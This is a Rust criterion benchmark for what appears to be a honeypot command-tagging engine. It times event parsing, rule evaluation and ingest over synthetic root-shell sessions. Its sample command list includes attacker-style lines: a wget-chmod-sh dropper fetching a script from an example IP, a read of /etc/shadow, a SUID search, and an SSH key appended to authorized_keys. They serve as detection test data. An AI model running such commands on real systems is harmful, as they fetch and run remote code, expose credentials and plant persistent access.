// SPDX-License-Identifier: AGPL-3.0-or-later
//! The evaluation lane by stage, on command lines as honeypots see them.

#![allow(clippy::expect_used, reason = "a bench stops where its input is not what it should be")]

use std::hint::black_box;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use decnet_ttp::event::Block;
use decnet_ttp::tag::{Ingest, Report};
use decnet_ttp::vocab::Limits;
use decnet_ttp::{Engine, Event, compile};

const COMMANDS: [&str; 12] = [
    "ls -la",
    "cat /proc/cpuinfo | grep name | wc -l",
    "uname -a",
    "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "tail -n 200 -F /var/log/syslog",
    "systemctl restart app-worker@3.service",
    "git log --oneline -n 20",
    "cat /etc/shadow",
    "find / -perm -u=s -type f 2>/dev/null",
    "echo -e \"ssh-rsa AAAAB3Nza\" >> ~/.ssh/authorized_keys",
    "python3 -m http.server 8000",
    "docker ps --format {{.Names}}",
];

fn lines() -> Vec<String> {
    (0..1200_usize)
        .map(|n| {
            let command = COMMANDS.get(n % COMMANDS.len()).copied().unwrap_or("");
            let payload = serde_json::json!({
                "command_text": command, "uid": "0", "user": "root", "src": "203.0.113.7", "pwd": "/root",
            });
            format!(
                "{{\"source_kind\":\"command\",\"source_id\":\"5f3e9c#{n}\",\"attacker_uuid\":\
                 \"5b1a9e2e-0000-5000-8000-2f6a1c9d0e77\",\"session_id\":\"5f3e9c\",\"decky_id\":\"web01\",\
                 \"ts\":\"2026-07-28T12:00:00.000Z\",\"payload\":{payload}}}\n"
            )
        })
        .collect()
}

fn stages(c: &mut Criterion) {
    let limits = Limits::default();
    let engine = Engine::new(compile::builtin().expect("the shipped pack compiles"));
    let lines = lines();
    let events: Vec<Event<'_>> =
        lines.iter().filter_map(|line| Event::parse(line.trim_end(), &limits).ok()).collect();

    let mut group = c.benchmark_group("lane");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("envelope", |b| {
        b.iter(|| {
            lines.iter().filter(|line| Event::parse(black_box(line.trim_end()), &limits).is_ok()).count()
        });
    });
    let mut scratch = engine.scratch();
    group.bench_function("evaluate", |b| {
        b.iter(|| {
            events
                .iter()
                .map(|event| engine.evaluate_with(black_box(event), &mut scratch).len())
                .sum::<usize>()
        });
    });
    let block = Block::from_bytes(lines.concat().into_bytes(), 1);
    let mut ingest = Ingest::new(&engine, 0.3, false, &limits);
    let mut out = Vec::new();
    group.bench_function("ingest", |b| {
        b.iter(|| {
            out.clear();
            ingest.block(black_box(&block), 0, &mut out, &mut Report::default());
            out.len()
        });
    });
    group.finish();
}

criterion_group!(benches, stages);
criterion_main!(benches);
